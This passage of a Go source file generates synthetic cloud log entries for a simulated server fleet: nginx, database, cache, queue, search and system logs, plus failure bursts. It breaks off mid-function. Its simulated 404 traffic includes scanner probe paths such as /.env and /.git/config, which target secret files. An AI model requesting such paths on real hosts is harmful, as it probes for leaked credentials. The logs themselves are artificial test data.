package fleetsim

import (
	"fmt"
	"strings"
	"time"

	"cloud.google.com/go/logging/apiv2/loggingpb"
	ltype "google.golang.org/genproto/googleapis/logging/type"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/structpb"
	"google.golang.org/protobuf/types/known/timestamppb"
)

// This file holds what the simulated nodes say. Everything is drawn from
// the node's own random stream, so a node's logs depend only on the seed,
// its name and the events it saw.

// Severities used below, shorter to read.
const (
	sevDebug    = ltype.LogSeverity_DEBUG
	sevInfo     = ltype.LogSeverity_INFO
	sevNotice   = ltype.LogSeverity_NOTICE
	sevWarning  = ltype.LogSeverity_WARNING
	sevError    = ltype.LogSeverity_ERROR
	sevCritical = ltype.LogSeverity_CRITICAL
)

// ---- entry builders ----

func (n *logNode) base(t time.Time, log string, sev ltype.LogSeverity) *loggingpb.LogEntry {
	n.seq++
	return &loggingpb.LogEntry{
		LogName:   "projects/" + n.l.opts.Project + "/logs/" + log,
		Resource:  n.resource,
		Labels:    n.labels,
		Timestamp: timestamppb.New(t),
		Severity:  sev,
		InsertId:  fmt.Sprintf("%s%08x", n.idPrefix, n.seq),
	}
}

func (n *logNode) emit(e *loggingpb.LogEntry) { n.l.pending = append(n.l.pending, e) }

// text logs a text payload. Strings are made valid UTF-8: protobuf refuses
// to marshal anything else, and one bad string would fail a whole write.
func (n *logNode) text(t time.Time, log string, sev ltype.LogSeverity, s string) *loggingpb.LogEntry {
	e := n.base(t, log, sev)
	e.Payload = &loggingpb.LogEntry_TextPayload{TextPayload: strings.ToValidUTF8(s, "\uFFFD")}
	n.emit(e)
	return e
}

// json logs a JSON payload; "level" is filled in from sev.
func (n *logNode) json(t time.Time, log string, sev ltype.LogSeverity, fields map[string]any) *loggingpb.LogEntry {
	if _, ok := fields["level"]; !ok {
		fields["level"] = strings.ToLower(sev.String())
	}
	st, err := structpb.NewStruct(fields)
	if err != nil {
		// Only invalid UTF-8 gets here; say so rather than lose the entry.
		return n.text(t, log, sev, fmt.Sprintf("%v", fields))
	}
	e := n.base(t, log, sev)
	e.Payload = &loggingpb.LogEntry_JsonPayload{JsonPayload: st}
	n.emit(e)
	return e
}

// syslog logs one line in the syslog format the Ops Agent forwards.
func (n *logNode) syslog(t time.Time, sev ltype.LogSeverity, prog, msg string) {
	n.text(t, logSyslog, sev, fmt.Sprintf("%s %s %s: %s", t.UTC().Format(time.Stamp), n.name, prog, msg))
}

// nginxError logs a line of nginx's error log.
func (n *logNode) nginxError(t time.Time, sev ltype.LogSeverity, level, msg string) {
	n.text(t, logNginxError, sev, fmt.Sprintf("%s [%s] %d#%d: %s", t.UTC().Format("2006/01/02 15:04:05"), level, n.pid+1, n.pid+1, msg))
}

// access logs one request in nginx's combined format, with the request
// also as the entry's httpRequest.
func (n *logNode) access(t time.Time, method, path string, status int, latency time.Duration, ua string) *loggingpb.LogEntry {
	sev := sevInfo
	switch {
	case status >= 500:
		sev = sevError
	case status >= 400:
		sev = sevWarning
	}
	size := 0
	if status != 304 && status != 499 {
		size = 200 + n.rng.IntN(48000)
	}
	remote := n.clientIP()
	referer := "-"
	if n.rng.IntN(3) == 0 {
		referer = "https://shop.example.com/"
	}
	line := fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s" %.3f`,
		remote, t.UTC().Format("02/Jan/2006:15:04:05 -0700"), method, path, status, size, referer, ua, latency.Seconds())
	e := n.text(t, logAccess, sev, line)
	e.HttpRequest = &ltype.HttpRequest{
		RequestMethod: method, RequestUrl: strings.ToValidUTF8(path, "\uFFFD"), Status: int32(status),
		ResponseSize: int64(size), UserAgent: strings.ToValidUTF8(ua, "\uFFFD"), RemoteIp: remote, ServerIp: n.addr,
		Latency: durationpb.New(latency), Protocol: "HTTP/1.1",
	}
	if referer != "-" {
		e.HttpRequest.Referer = referer
	}
	return e
}

// ---- small random helpers ----

func pick[T any](n *logNode, xs []T) T { return xs[n.rng.IntN(len(xs))] }

func (n *logNode) hex(k int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, k)
	for i := range b {
		b[i] = digits[n.rng.IntN(16)]
	}
	return string(b)
}

// clientIP is an address from the documentation ranges (RFC 5737), so no
// real client is named.
func (n *logNode) clientIP() string {
	return fmt.Sprintf("%s.%d", pick(n, []string{"192.0.2", "198.51.100", "203.0.113"}), 1+n.rng.IntN(254))
}

// peer is a private address in the fleet's ranges.
func (n *logNode) peer() string {
	return fmt.Sprintf("10.%d.%d.%d", 1+n.rng.IntN(2), n.rng.IntN(2), 4+n.rng.IntN(200))
}

func (n *logNode) user() string { return fmt.Sprintf("u-%05d", n.rng.IntN(100000)) }

func (n *logNode) version(role string) string {
	if _, v, ok := roleProfile(role); ok {
		return v
	}
	return "v1.0.0"
}

func (n *logNode) port(role string) int {
	if p, _, ok := roleProfile(role); ok {
		return p
	}
	return 8000
}

func (n *logNode) path(role string) string {
	switch role {
	case "api":
		return pick(n, []string{
			"/api/v1/orders", fmt.Sprintf("/api/v1/orders/%d", 100000+n.rng.IntN(900000)),
			fmt.Sprintf("/api/v1/users/%d", n.rng.IntN(100000)), "/api/v1/cart", "/api/v1/search?q=" + pick(n, []string{"boots", "lamp", "usb-c+cable", "desk"}),
			"/api/v1/payments", fmt.Sprintf("/api/v1/inventory/%d", n.rng.IntN(20000)), "/api/v1/session",
		})
	default:
		return pick(n, []string{
			"/", "/products", fmt.Sprintf("/products/%d", n.rng.IntN(20000)), "/cart", "/checkout", "/login",
			"/static/js/app." + n.hex(8) + ".js", "/static/css/main." + n.hex(8) + ".css",
			fmt.Sprintf("/images/p/%d.webp", n.rng.IntN(20000)), "/favicon.ico", "/account/orders",
			"/search?q=" + pick(n, []string{"boots", "lamp", "usb-c+cable", "desk"}),
		})
	}
}

// request draws a method and a path that go together: reads are GETs of
// any page, writes go to the endpoints that take them.
func (n *logNode) request(role string) (method, path string) {
	if n.rng.IntN(100) >= 14 {
		return "GET", n.path(role)
	}
	if role == "api" {
		return pick(n, []string{"POST", "POST", "PUT", "DELETE"}), pick(n, []string{"/api/v1/orders", "/api/v1/cart", "/api/v1/payments", "/api/v1/session", fmt.Sprintf("/api/v1/cart/items/%d", n.rng.IntN(20000))})
	}
	return "POST", pick(n, []string{"/cart", "/checkout", "/login", "/account/orders"})
}

func (n *logNode) userAgent() string {
	return pick(n, []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"curl/8.5.0", "python-requests/2.32.3",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	})
}

// ---- background ----

// background writes one ordinary entry: traffic, application chatter or
// system noise.
func (n *logNode) background(t time.Time) {
	switch pick(n, n.logs) {
	case logAccess:
		role := "web"
		if !n.hasRole("web") && n.rng.IntN(2) == 0 {
			role = "api"
		}
		status := 200
		switch r := n.rng.IntN(100); {
		case r < 8:
			status = 304
		case r < 12:
			status = pick(n, []int{301, 302})
		case r < 18:
			status = 404
		case r < 19:
			status = pick(n, []int{401, 403, 499})
		case r < 22:
			status = 201
		}
		method, path := n.request(role)
		switch {
		case status == 404:
			method, path = "GET", pick(n, []string{"/wp-login.php", "/.env", "/.git/config", "/admin/config.php", fmt.Sprintf("/products/%d", 900000+n.rng.IntN(9999))})
		case method == "GET" && status == 201:
			status = 200
		case method != "GET" && (status == 304 || status == 301):
			status = 200
		}
		n.access(t, method, path, status, time.Duration(2+n.rng.IntN(180))*time.Millisecond, n.userAgent())
	case logNginxError:
		switch n.rng.IntN(3) {
		case 0:
			n.nginxError(t, sevWarning, "warn", fmt.Sprintf("*%d an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/%d/%02d/%010d while reading upstream, client: %s, server: shop.example.com, request: \"GET %s HTTP/1.1\", upstream: \"http://%s:%d%s\"",
				n.rng.IntN(9999999), n.rng.IntN(10), n.rng.IntN(100), n.rng.IntN(1e9), n.clientIP(), "/api/v1/orders", n.peer(), 9090, "/api/v1/orders"))
		case 1:
			n.nginxError(t, sevInfo, "info", fmt.Sprintf("*%d client %s closed keepalive connection", n.rng.IntN(9999999), n.clientIP()))
		default:
			n.nginxError(t, sevWarning, "error", fmt.Sprintf("*%d open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), client: %s, server: shop.example.com, request: \"GET /favicon.ico HTTP/1.1\"", n.rng.IntN(9999999), n.clientIP()))
		}
	case logApp:
		n.appLine(t)
	default:
		n.syslogLine(t)
	}
}

// appSeverity is the usual mix of an application log.
func (n *logNode) appSeverity() ltype.LogSeverity {
	switch r := n.rng.IntN(100); {
	case r < 24:
		return sevDebug
	case r < 95:
		return sevInfo
	default:
		return sevWarning
	}
}

// appLine writes one ordinary application entry in the style of the
// node's main role.
func (n *logNode) appLine(t time.Time) {
	role := n.appRole()
	sev := n.appSeverity()
	ts := t.UTC()
	switch role {
	case "cache": // redis
		lvl := map[ltype.LogSeverity]string{sevDebug: ".", sevInfo: "*", sevWarning: "#"}[sev]
		msg := pick(n, []string{"100 changes in 300 seconds. Saving...", fmt.Sprintf("Background saving started by pid %d", n.pid+n.rng.IntN(900)), "DB saved on disk", "Background saving terminated with success", fmt.Sprintf("Fork CoW for RDB: current %d MB, peak %d MB, average %d MB", n.rng.IntN(9), 2+n.rng.IntN(9), n.rng.IntN(5))})
		if sev == sevWarning {
			msg = fmt.Sprintf("WARNING: %d clients connected (threshold 1000), consider raising maxclients", 1000+n.rng.IntN(200))
		}
		n.text(t, logApp, sev, fmt.Sprintf("%d:M %s %s %s", n.pid, ts.Format("02 Jan 2006 15:04:05.000"), lvl, msg))
	case "db": // postgres
		msg := pick(n, []string{
			"LOG:  checkpoint starting: time",
			fmt.Sprintf("LOG:  checkpoint complete: wrote %d buffers (%.1f%%); 0 WAL file(s) added, 0 removed, %d recycled; write=%.3f s, sync=0.004 s, total=%.3f s", n.rng.IntN(4000), n.rng.Float64()*10, n.rng.IntN(4), 100+n.rng.Float64()*40, 100+n.rng.Float64()*40),
			fmt.Sprintf("LOG:  automatic vacuum of table \"shop.public.%s\": index scans: 1", pick(n, []string{"orders", "carts", "sessions", "order_items"})),
			fmt.Sprintf("LOG:  connection authorized: user=app database=shop application_name=%s", pick(n, []string{"api", "worker"})),
		})
		if sev == sevWarning {
			msg = fmt.Sprintf("LOG:  duration: %.3f ms  statement: SELECT o.id, o.status FROM orders o JOIN order_items i ON i.order_id = o.id WHERE o.user_id = $1", 1000+n.rng.Float64()*2000)
		}
		n.text(t, logApp, sev, fmt.Sprintf("%s UTC [%d] %s", ts.Format("2006-01-02 15:04:05.000"), n.pid+n.rng.IntN(500), msg))
	case "queue": // rabbitmq
		conn := fmt.Sprintf("<0.%d.0>", 1000+n.rng.IntN(9000))
		msg := pick(n, []string{
			fmt.Sprintf("accepting AMQP connection %s (%s:%d -> %s:5672)", conn, n.peer(), 30000+n.rng.IntN(30000), n.addr),
			fmt.Sprintf("connection %s: user 'app' authenticated and granted access to vhost '/'", conn),
			fmt.Sprintf("closing AMQP connection %s (%s:%d -> %s:5672, vhost: '/', user: 'app')", conn, n.peer(), 30000+n.rng.IntN(30000), n.addr),
		})
		lvl := "info"
		if sev == sevDebug {
			lvl = "debug"
		} else if sev == sevWarning {
			lvl, msg = "warning", fmt.Sprintf("client unexpectedly closed TCP connection %s", conn)
		}
		n.text(t, logApp, sev, fmt.Sprintf("%s [%s] %s %s", ts.Format("2006-01-02 15:04:05.000000-07:00"), lvl, conn, msg))
	case "search": // elasticsearch, ECS JSON
		msg := pick(n, []string{
			fmt.Sprintf("[orders-%s] update_mapping [_doc]", ts.Format("2006.01.02")),
			fmt.Sprintf("[gc][%d] overhead, spent [%dms] collecting in the last [1s]", n.rng.IntN(99999), 100+n.rng.IntN(200)),
			"adding template [logs-template] for index patterns [logs-*]",
			fmt.Sprintf("Cluster health status changed from [GREEN] to [GREEN] (reason: [shards started [[orders-%s][%d]]]).", ts.Format("2006.01.02"), n.rng.IntN(5)),
		})
		if sev == sevWarning {
			msg = fmt.Sprintf("[gc][%d] overhead, spent [%.1fs] collecting in the last [%.1fs]", n.rng.IntN(99999), 1+n.rng.Float64(), 2+n.rng.Float64())
		}
		n.json(t, logApp, sev, map[string]any{
			"@timestamp": ts.Format(time.RFC3339Nano), "log.level": strings.ToUpper(strings.TrimSuffix(sev.String(), "ING")),
			"message": msg, "ecs.version": "1.2.0", "service.name": "ES_ECS",
			"log.logger":              pick(n, []string{"o.e.c.m.MetadataMappingService", "o.e.m.j.JvmGcMonitorService", "o.e.c.r.a.AllocationService"}),
			"elasticsearch.node.name": n.name, "elasticsearch.cluster.name": "search-prod",
		})
	case "worker":
		job := pick(n, []string{"send-invoice-email", "resize-product-image", "sync-inventory", "charge-subscription", "rebuild-search-index"})
		f := map[string]any{
			"message": "job completed", "logger": "worker", "service": role, "version": n.version(role),
			"job": job, "job_id": "job_" + n.hex(12), "queue": pick(n, []string{"default", "critical", "low"}),
			"attempt": 1, "duration_ms": 5 + n.rng.IntN(4000),
		}
		switch sev {
		case sevDebug:
			f["message"] = "job picked up"
		case sevWarning:
			f["message"], f["attempt"], f["error"] = "job retry scheduled", 2, "payment gateway returned 429 Too Many Requests"
		}
		n.json(t, logApp, sev, f)
	default: // web, api and pool services: request logs
		method, route := n.request(role)
		status := 200
		if n.rng.IntN(25) == 0 {
			status = 404
		}
		f := map[string]any{
			"message": "request completed", "logger": "http", "service": role, "version": n.version(role),
			"request_id": "req_" + n.hex(16), "method": method, "route": route, "status": status,
			"latency_ms": float64(1+n.rng.IntN(25000)) / 100, "user": n.user(),
		}
		switch sev {
		case sevDebug:
			if n.rng.IntN(2) == 0 {
				f = map[string]any{"message": "cache lookup", "logger": "cache", "service": role, "key": "session:" + n.hex(12), "hit": n.rng.IntN(4) > 0}
			} else {
				f = map[string]any{"message": "db query", "logger": "sql", "service": role, "sql": "SELECT id, status, total FROM orders WHERE user_id = $1 ORDER BY created_at DESC LIMIT 50", "rows": n.rng.IntN(50), "duration_ms": float64(n.rng.IntN(900)) / 100}
			}
		case sevWarning:
			f["message"] = pick(n, []string{"slow request", "retrying call to payments (attempt 2/3)", "rate limit nearly exhausted for client"})
			f["latency_ms"] = float64(80000+n.rng.IntN(120000)) / 100
		}
		e := n.json(t, logApp, sev, f)
		if _, ok := f["request_id"]; ok {
			e.Trace = "projects/" + n.l.opts.Project + "/traces/" + n.hex(32)
		}
	}
}

// syslogLine writes one line of ordinary system noise.
func (n *logNode) syslogLine(t time.Time) {
	switch r := n.rng.IntN(20); {
	case r < 4:
		n.syslog(t, sevInfo, "systemd[1]", pick(n, []string{"Started apt-daily.service - Daily apt download activities.", "Finished logrotate.service - Rotate log files.", "Starting sysstat-collect.service - system activity accounting tool...", "sysstat-collect.service: Deactivated successfully.", "Started session-" + fmt.Sprint(n.rng.IntN(9000)) + ".scope - Session of User deploy."}))
	case r < 8:
		n.syslog(t, sevDebug, fmt.Sprintf("CRON[%d]", n.pid+1000+n.rng.IntN(8000)), pick(n, []string{"(root) CMD (/usr/local/bin/rotate-app-logs)", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)", "(app) CMD (/opt/app/bin/cleanup-tmp --older-than 1h)"}))
	case r < 11:
		n.syslog(t, sevInfo, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [INFO]  agent: Synced check: check=%s", t.UTC().Format("2006-01-02T15:04:05.000Z"), pick(n, append([]string{NodeCheckID}, n.serviceChecks()...))))
	case r < 13:
		n.syslog(t, sevInfo, fmt.Sprintf("google_guest_agent[%d]", n.pid-40), pick(n, []string{"Updating keys for user deploy.", "OS Login: no changes.", "Successfully updated the instance's SSH host keys."}))
	case r < 15:
		n.syslog(t, sevInfo, fmt.Sprintf("sshd[%d]", n.pid+n.rng.IntN(9000)), fmt.Sprintf("Accepted publickey for deploy from %s port %d ssh2: ED25519 SHA256:%s", n.peer(), 40000+n.rng.IntN(20000), n.hex(20)))
	case r < 17:
		n.syslog(t, sevInfo, "systemd-timesyncd[512]", "Initial synchronization to time server 169.254.169.254:123 (metadata.google.internal).")
	case r < 19:
		n.syslog(t, sevDebug, "kernel", fmt.Sprintf("[%d.%06d] audit: type=1400 audit(%d.%03d:%d): apparmor=\"ALLOWED\" operation=\"open\" profile=\"/usr/sbin/nginx\" name=\"/etc/ssl/certs/\"", n.rng.IntN(900000), n.rng.IntN(1000000), t.Unix(), n.rng.IntN(1000), n.rng.IntN(9999)))
	default:
		n.syslog(t, sevWarning, "kernel", fmt.Sprintf("[%d.%06d] TCP: request_sock_TCP: Possible SYN flooding on port %d. Sending cookies.  Check SNMP counters.", n.rng.IntN(900000), n.rng.IntN(1000000), pick(n, []int{443, 80, n.port(n.appRole())})))
	}
}

func (n *logNode) serviceChecks() []string {
	var ids []string
	for _, r := range n.roles {
		ids = append(ids, "service:"+r)
	}
	return ids
}

// ---- incidents ----

// failSeverity is the severity of one error entry of a burst.
func (n *logNode) failSeverity(b *badCheck) ltype.LogSeverity {
	if b.status == "critical" {
		if n.rng.IntN(6) == 0 {
			return sevCritical
		}
		return sevError
	}
	if n.rng.IntN(10) < 3 {
		return sevError
	}
	return sevWarning
}

// failure writes one entry that explains (or shows) the trouble b is in.
func (n *logNode) failure(t time.Time, b *badCheck) {
	sev := n.failSeverity(b)
	crit := b.status == "critical"
	switch {
	case b.role == "" && b == n.unresponsive:
		n.unresponsiveLine(t, sev)
	case b.role == "":
		n.diskFullLine(t, sev)
	case b.role == "web" || b.role == "lb":
		switch r := n.rng.IntN(10); {
		case r < 5:
			n.failingRequest(t, b, crit)
		case r < 8 || b.role == "lb":
			n.upstreamError(t, sev, crit)
		default:
			n.appError(t, sev, b)
		}
	case b.role == "cache":
		n.redisError(t, sev, crit)
	case b.role == "db":
		n.postgresError(t, sev, crit)
	case b.role == "queue":
		n.rabbitError(t, sev, crit)
	case b.role == "search":
		n.elasticError(t, sev, crit)
	default:
		if n.rng.IntN(12) == 0 && crit {
			n.syslog(t, sevError, "systemd[1]", fmt.Sprintf("%s.service: Main process exited, code=killed, status=9/KILL", b.role))
			return
		}
		n.appError(t, sev, b)
	}
}

// healthProbe logs the failing health check's own request as the service
// saw it, with the status the check reported, so the check's output and
// the logs tell the same story. TCP checks and refused connections leave
// no trace in the service's logs.
func (n *logNode) healthProbe(t time.Time, b *badCheck) {
	if b.role == "" || tcpRole(b.role) {
		return
	}
	var status int
	latency := time.Duration(5+n.rng.IntN(40)) * time.Millisecond
	switch out := b.output; {
	case strings.Contains(out, " 503 "):
		status = 503
	case strings.Contains(out, " 429 "):
		status = 429
	case strings.Contains(out, "deadline exceeded"), strings.Contains(out, "Timeout"):
		status, latency = 504, 10*time.Second
	default:
		return
	}
	if n.hasRole("web", "lb") {
		n.access(t, "GET", "/health", status, latency, "Consul Health Check")
		return
	}
	sev := sevError
	if status < 500 {
		sev = sevWarning
	}
	n.json(t, logApp, sev, map[string]any{
		"message": "request completed", "logger": "http", "service": b.role, "version": n.version(b.role),
		"request_id": "req_" + n.hex(16), "method": "GET", "route": "/health", "status": status,
		"latency_ms": float64(latency.Microseconds()) / 1000, "user_agent": "Consul Health Check",
	})
}

// failingRequest is an access line of a request the trouble broke.
func (n *logNode) failingRequest(t time.Time, b *badCheck, crit bool) {
	status, lat := 429, time.Duration(800+n.rng.IntN(1500))*time.Millisecond
	if crit {
		status = pick(n, []int{502, 503, 504, 504})
		if status == 504 {
			lat = 60 * time.Second
		} else {
			lat = time.Duration(n.rng.IntN(3000)) * time.Millisecond
		}
	}
	if n.rng.IntN(5) == 0 {
		// The health check's own request, as the service saw it.
		n.access(t, "GET", "/health", status, lat, "Consul Health Check")
		return
	}
	method, path := n.request(pick(n, []string{"web", "api"}))
	n.access(t, method, path, status, lat, n.userAgent())
}

func (n *logNode) upstreamError(t time.Time, sev ltype.LogSeverity, crit bool) {
	up := fmt.Sprintf("%s:%d", n.peer(), 9090)
	path := n.path("api")
	req := fmt.Sprintf("client: %s, server: shop.example.com, request: \"GET %s HTTP/1.1\", upstream: \"http://%s%s\", host: \"shop.example.com\"", n.clientIP(), path, up, path)
	id := n.rng.IntN(9999999)
	if !crit {
		n.nginxError(t, sev, "warn", fmt.Sprintf("*%d upstream server temporarily disabled while reading response header from upstream, %s", id, req))
		return
	}
	switch n.rng.IntN(4) {
	case 0:
		n.nginxError(t, sev, "error", fmt.Sprintf("*%d upstream timed out (110: Connection timed out) while reading response header from upstream, %s", id, req))
	case 1:
		n.nginxError(t, sev, "error", fmt.Sprintf("*%d connect() failed (111: Connection refused) while connecting to upstream, %s", id, req))
	case 2:
		n.nginxError(t, sevCritical, "crit", fmt.Sprintf("*%d no live upstreams while connecting to upstream, %s", id, req))
	default:
		n.nginxError(t, sev, "alert", "1024 worker_connections are not enough")
	}
}

// appError is a JSON application error, often with a stack trace.
func (n *logNode) appError(t time.Time, sev ltype.LogSeverity, b *badCheck) {
	role := b.role
	if role == "" || role == "lb" {
		role = n.appRole()
	}
	dep := pick(n, []struct{ err, what string }{
		{"context deadline exceeded", "calling inventory service"},
		{fmt.Sprintf("dial tcp %s:5432: connect: connection refused", n.peer()), "opening database connection"},
		{"pq: sorry, too many clients already", "querying orders"},
		{"redis: connection pool timeout", "reading session"},
		{fmt.Sprintf("read tcp %s:%d->%s:9090: read: connection reset by peer", n.addr, 40000+n.rng.IntN(20000), n.peer()), "calling api"},
	})
	f := map[string]any{
		"logger": "http", "service": role, "version": n.version(role), "request_id": "req_" + n.hex(16),
		"user": n.user(), "latency_ms": float64(100000+n.rng.IntN(2900000)) / 100,
		"error": dep.err, "message": "request failed: " + dep.what, "status": pick(n, []int{500, 503, 504}),
	}
	f["method"], f["route"] = n.request(role)
	if role == "worker" {
		f = map[string]any{
			"logger": "worker", "service": role, "version": n.version(role), "message": "job failed",
			"job": pick(n, []string{"send-invoice-email", "sync-inventory", "charge-subscription"}), "job_id": "job_" + n.hex(12),
			"attempt": 1 + n.rng.IntN(5), "error": dep.err,
		}
	}
	switch {
	case b.status == "critical":
	case role == "worker":
		f["message"] = pick(n, []string{"job running slow, queue backing up", "broker connection blocked, waiting"})
		f["queue_depth"] = 900 + n.rng.IntN(400)
	default:
		f["message"] = pick(n, []string{"slow request", "connection pool exhausted, waiting for a free connection", "upstream latency above SLO"})
		f["pool_in_use"], f["pool_size"] = 100, 100
	}
	fn, file, line := "main.(*OrderHandler).Get", "handler/orders.go", 142+n.rng.IntN(40)
	if n.rng.IntN(3) > 0 || sev == sevCritical {
		if sev == sevCritical {
			f["message"] = "panic: runtime error: invalid memory address or nil pointer dereference"
			f["error"] = "[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x8f2c3a]"
			fn = "main.(*Cart).Total"
		}
		f["stack_trace"] = fmt.Sprintf("goroutine %d [running]:\n%s(0xc000%06x, {0x1a2b3c0, 0xc000%06x})\n\t/src/%s/%s:%d +0x%x\nnet/http.HandlerFunc.ServeHTTP(0xc000%06x, {0x1a33f08, 0xc000%06x}, 0xc000%06x)\n\t/usr/local/go/src/net/http/server.go:2220 +0x29\nnet/http.serverHandler.ServeHTTP({0xc000%06x}, {0x1a33f08, 0xc000%06x}, 0xc000%06x)\n\t/usr/local/go/src/net/http/server.go:3210 +0x8e\nnet/http.(*conn).serve(0xc000%06x, {0x1a35a38, 0xc000%06x})\n\t/usr/local/go/src/net/http/server.go:2092 +0x5d0\ncreated by net/http.(*Server).Serve in goroutine 1\n\t/usr/local/go/src/net/http/server.go:3360 +0x485",
			1000+n.rng.IntN(90000), fn, n.rng.IntN(1<<24), n.rng.IntN(1<<24), role, file, line, n.rng.IntN(0xfff),
			n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24), n.rng.IntN(1<<24))
	}
	e := n.json(t, logApp, sev, f)
	e.SourceLocation = &loggingpb.LogEntrySourceLocation{File: file, Line: int64(line), Function: fn}
	e.Trace = "projects/" + n.l.opts.Project + "/traces/" + n.hex(32)
}

func (n *logNode) redisError(t time.Time, sev ltype.LogSeverity, crit bool) {
	msg := pick(n, []string{
		"WARNING: slow log: command HGETALL took 1843 ms",
		fmt.Sprintf("Client id=%d addr=%s:%d closed for overcoming of output buffer limits.", n.rng.IntN(99999), n.peer(), 40000+n.rng.IntN(20000)),
	})
	if crit {
		msg = pick(n, []string{
			"Can't save in background: fork: Cannot allocate memory",
			fmt.Sprintf("Connection with replica %s:6379 lost.", n.peer()),
			"Error accepting a client connection: accept: Too many open files",
			"Out Of Memory allocating 16408 bytes!",
		})
		if n.rng.IntN(5) == 0 {
			n.syslog(t, sevError, "kernel", fmt.Sprintf("[%d.%06d] Out of memory: Killed process %d (redis-server) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:999 pgtables:%dkB oom_score_adj:0", n.rng.IntN(900000), n.rng.IntN(1000000), n.pid, 7000000+n.rng.IntN(900000), 6000000+n.rng.IntN(900000), 12000+n.rng.IntN(900)))
			return
		}
	}
	n.text(t, logApp, sev, fmt.Sprintf("%d:M %s # %s", n.pid, t.UTC().Format("02 Jan 2006 15:04:05.000"), msg))
}

func (n *logNode) postgresError(t time.Time, sev ltype.LogSeverity, crit bool) {
	msg := fmt.Sprintf("LOG:  checkpoints are occurring too frequently (%d seconds apart)\nHINT:  Consider increasing the configuration parameter \"max_wal_size\".", 5+n.rng.IntN(20))
	if crit {
		msg = pick(n, []string{
			"FATAL:  remaining connection slots are reserved for non-replication superuser connections",
			fmt.Sprintf("ERROR:  could not extend file \"base/16384/%d\": No space left on device\nHINT:  Check free disk space.\nSTATEMENT:  INSERT INTO order_items (order_id, sku, qty) VALUES ($1, $2, $3)", 24576+n.rng.IntN(9000)),
			"FATAL:  the database system is in recovery mode",
			fmt.Sprintf("LOG:  server process (PID %d) was terminated by signal 9: Killed", n.pid+n.rng.IntN(900)),
		})
		if sev == sevCritical {
			msg = fmt.Sprintf("PANIC:  could not write to file \"pg_wal/xlogtemp.%d\": No space left on device", n.pid)
		}
	}
	n.text(t, logApp, sev, fmt.Sprintf("%s UTC [%d] %s", t.UTC().Format("2006-01-02 15:04:05.000"), n.pid+n.rng.IntN(500), msg))
}

func (n *logNode) rabbitError(t time.Time, sev ltype.LogSeverity, crit bool) {
	conn := fmt.Sprintf("<0.%d.0>", 1000+n.rng.IntN(9000))
	lvl, msg := "warning", fmt.Sprintf("connection %s (%s:%d -> %s:5672): blocked, resource alarm in effect", conn, n.peer(), 30000+n.rng.IntN(30000), n.addr)
	if crit {
		lvl = "error"
		msg = pick(n, []string{
			fmt.Sprintf("closing AMQP connection %s (%s:%d -> %s:5672):\nmissed heartbeats from client, timeout: 60s", conn, n.peer(), 30000+n.rng.IntN(30000), n.addr),
			fmt.Sprintf("memory resource limit alarm set on node rabbit@%s.\n\n**********************************************************\n*** Publishers will be blocked until this alarm clears ***\n**********************************************************", n.name),
			"file descriptor limit alarm set. ********************************************************* *** New connections will not be accepted until this alarm clears *** *********************************************************",
		})
	}
	n.text(t, logApp, sev, fmt.Sprintf("%s [%s] %s %s", t.UTC().Format("2006-01-02 15:04:05.000000-07:00"), lvl, conn, msg))
}

func (n *logNode) elasticError(t time.Time, sev ltype.LogSeverity, crit bool) {
	f := map[string]any{
		"@timestamp": t.UTC().Format(time.RFC3339Nano), "log.level": "WARN", "ecs.version": "1.2.0", "service.name": "ES_ECS",
		"log.logger": "o.e.c.r.a.DiskThresholdMonitor", "elasticsearch.node.name": n.name, "elasticsearch.cluster.name": "search-prod",
		"message": fmt.Sprintf("high disk watermark [90%%] exceeded on [%s][%s][/var/lib/elasticsearch] free: %.1fgb[%.1f%%], shards will be relocated away from this node", n.hex(22), n.name, 2+n.rng.Float64()*3, 5+n.rng.Float64()*4),
	}
	if crit {
		limit := 4080218931
		would := limit + 1 + n.rng.IntN(200000000)
		f["log.level"], f["log.logger"] = "ERROR", "o.e.r.a.s.RestSearchAction"
		f["message"] = "failed to execute search"
		f["error.type"] = "org.elasticsearch.common.breaker.CircuitBreakingException"
		f["error.message"] = fmt.Sprintf("[parent] Data too large, data for [<http_request>] would be [%d/%.1fgb], which is larger than the limit of [%d/3.7gb]", would, float64(would)/(1<<30), limit)
		f["error.stack_trace"] = "org.elasticsearch.common.breaker.CircuitBreakingException: " + f["error.message"].(string) +
			"\n\tat org.elasticsearch.indices.breaker.HierarchyCircuitBreakerService.checkParentLimit(HierarchyCircuitBreakerService.java:440)" +
			"\n\tat org.elasticsearch.common.breaker.ChildMemoryCircuitBreaker.addEstimateBytesAndMaybeBreak(ChildMemoryCircuitBreaker.java:108)" +
			"\n\tat org.elasticsearch.http.AbstractHttpServerTransport.incomingRequest(AbstractHttpServerTransport.java:396)" +
			"\n\tat org.elasticsearch.http.netty4.Netty4HttpPipeliningHandler.channelRead(Netty4HttpPipeliningHandler.java:117)" +
			"\n\tat java.base/java.lang.Thread.run(Thread.java:1583)"
	}
	n.json(t, logApp, sev, f)
}

// unresponsiveLine tells the story of a node that is going down: memory
// exhaustion, hung tasks, its services failing.
func (n *logNode) unresponsiveLine(t time.Time, sev ltype.LogSeverity) {
	main := n.appRole()
	if main == "" {
		main = "nginx"
